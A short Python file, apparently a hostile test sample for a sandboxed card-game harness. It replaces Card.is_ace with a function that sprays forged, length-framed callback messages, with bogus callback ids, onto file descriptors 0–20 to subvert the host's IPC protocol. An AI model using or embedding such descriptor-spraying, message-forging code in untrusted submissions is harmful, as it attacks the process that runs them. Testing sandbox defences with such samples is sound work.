"""Calls callbacks back that nobody gave out."""

import os


def _frame(text):
    return len(text).to_bytes(4, "big") + text


def _attack(self):
    for number in (b"0", b"-1", b"true", b"1e9", b"99999999"):
        data = _frame(b'["c",' + number + b',[],{"self":1},""]')
        for descriptor in range(21):
            try:
                os.write(descriptor, data)
            except OSError:
                pass

    return True


Card.is_ace = _attack
